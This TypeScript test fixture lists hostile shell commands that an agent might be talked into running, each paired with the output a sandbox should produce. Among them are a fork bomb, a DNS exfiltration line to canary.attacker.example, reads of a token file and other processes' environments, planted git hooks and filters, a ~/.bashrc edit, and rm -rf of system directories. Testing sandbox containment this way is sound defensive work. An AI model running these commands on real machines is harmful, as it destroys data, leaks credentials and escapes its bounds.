import { boundsProcesses } from "../../src/agent/sandbox/limits.ts";

/** What an attack is aimed at. */
export interface Target {
  /** Stands in the command line of every process that the command starts. */
  mark: string;
  /** Of a process that must stay alive, with a canary in its environment. */
  bystander: number;
  /** Servers of this machine. */
  socketFile: string;
  abstractName: string;
  resolverPort: number;
}

export interface HostileCommand {
  name: string;
  command: (target: Target) => string;
  /** What the tool says of it. */
  says: RegExp;
  /** Outside of a sandbox it says this: it is an attack. Left out where nobody would want to try. */
  outside?: RegExp;
  timeoutSeconds?: number;
}

/** Only where no machine can be hurt, whatever a test gets wrong. */
const ONLY_INSIDE = "test -e /etc/shadow && exit 9";
const connect = (to: string) =>
  `node -e 'require("net").connect(${to}).on("connect", () => { console.log("connected"); process.exit() }).on("error", (e) => console.log(e.code))'`;

/** Not where nothing but a look now and then would bound it. */
const withBombs = boundsProcesses();
export const whyNoBombs = withBombs ? "" : "root's processes are not bounded by this kernel";

/** Commands as an agent may be talked into them, with what must come of them. All see the project `other` beside their own. */
const ALL: HostileCommand[] = [
  {
    name: "a fork bomb",
    command: () => `${ONLY_INSIDE}; bomb() { bomb | bomb & }; bomb; while :; do sleep 1; done`,
    says: /[Cc]annot fork|[Rr]esource temporarily unavailable|more than the 24 processes allowed/,
    timeoutSeconds: 1,
  },
  {
    name: "filling the disk",
    // As much as is safe; it would go on.
    command: ({ mark }) => `${ONLY_INSIDE}; dd if=/dev/zero of=big bs=1M count=200; sleep ${mark}`,
    says: /^Killed after \d+\.\d s, with its child processes: the disk is almost full \(less than \d+ MB are free\)/,
  },
  {
    name: "a flood without an end of line",
    command: () => "head -c 20000000 /dev/zero | tr '\\0' a",
    says: /^Exit code 0 .*\na{20000}\n\(… 19960000 bytes omitted; read 'output:[\w-]+' to see its first 16777216 bytes …\)\na{20000}$/,
  },
  {
    name: "sequences that terminals act on",
    command: () => "printf 'begun \\033]52;c;aGVsbG8=\\007\\033[2Jover'",
    says: /^Exit code 0 after \d+\.\d s\.\nbegun over$/,
    outside: /\]52;c;aGVsbG8=/,
  },
  {
    name: "a process forked twice",
    command: ({ mark }) => `(setsid sh -c 'sleep ${mark} &' &); echo left`,
    says: /^Exit code 0 .*\nleft$/,
  },
  {
    name: "deafness to signals",
    command: ({ mark }) => `trap '' TERM INT HUP; sleep ${mark}`,
    says: /^Killed after \d+\.\d s, .*: it exceeded its limit of 1 s\./,
    timeoutSeconds: 1,
  },
  { name: "waiting for input", command: () => "cat; echo over", says: /^Exit code 0 after \d+\.\d s\.\nover$/ },
  {
    name: "ending the daemon",
    command: ({ bystander }) =>
      `${ONLY_INSIDE}; kill -9 ${bystander} && echo killed; kill -9 $PPID; kill -9 1; kill -9 -1; echo tried`,
    says: /^Exit code \d+(?![\s\S]*killed$)/,
  },
  {
    name: "reading another project",
    command: () => "cat ../other/*; cat ../../.guildhall/token",
    says: /^Exit code 1 (?![\s\S]*canary)[\s\S]*No such file/,
    outside: /canary\n+canary/,
  },
  {
    name: "a server's socket file",
    command: ({ socketFile }) => connect(JSON.stringify({ path: socketFile })),
    says: /\nENOENT$/,
    outside: /^connected$/m,
  },
  {
    name: "carrying something out by name lookups",
    command: ({ resolverPort }) =>
      `node -e 'require("dgram").createSocket("udp4").send("canary.attacker.example", ${resolverPort}, "127.0.0.1", () => { console.log("sent"); process.exit() })'; node -e 'require("dns").lookup("canary.invalid", (e) => console.log(e.code))'`,
    says: /\nEAI_AGAIN$/,
    outside: /^sent$/m,
  },
  {
    name: "a server's abstract socket",
    command: ({ abstractName }) => connect(`{path: "\\0${abstractName}"}`),
    says: /\nECONNREFUSED$/,
    outside: /^connected$/m,
  },
  {
    name: "looking into another process",
    command: ({ bystander }) =>
      `for p in /proc/[0-9]* /proc/${bystander}; do tr '\\0' '\\n' < $p/environ; done 2>/dev/null | grep canary; head -c 1 /proc/${bystander}/root/etc/passwd; echo over`,
    says: /^Exit code 0 (?![\s\S]*canary)[\s\S]*over$/,
    outside: /canary/,
  },
  {
    name: "a hook of git",
    command: () => "printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/post-checkout && echo planted",
    says: /^Exit code [12] (?![\s\S]*planted)/,
    outside: /^planted$/m,
  },
  {
    name: "a filter of git",
    command: () => "git config filter.evil.clean 'touch pwned' && echo planted; echo '* filter=evil' > .gitattributes",
    says: /^Exit code \d+ (?![\s\S]*planted)/,
    outside: /^planted$/m,
  },
  {
    name: "the person's shell",
    command: () => "echo evil >> ~/.bashrc; cat ~/.bashrc",
    says: /^Exit code 0 .*\nevil$/,
    outside: /^evil$/m,
  },
  {
    name: "removing everything",
    command: () =>
      `${ONLY_INSIDE}; test "$HOME" = /home/agent && rm -rf ~ /home /etc ../../* ../* /usr/bin/env 2>/dev/null; echo over`,
    says: /\nover$/,
  },
  {
    name: "sleeping for ever",
    command: ({ mark }) => `sleep ${mark} & sleep ${mark}`,
    says: /^Killed after \d+\.\d s, .*: it exceeded its limit of 1 s\./,
    timeoutSeconds: 1,
  },
  {
    name: "NUL in the command",
    command: () => "echo a\0b",
    says: /^The input of exec is not valid: command: must not contain NUL\.$/,
  },
];

export const HOSTILE_COMMANDS = ALL.filter(({ name }) => withBombs || name !== "a fork bomb");
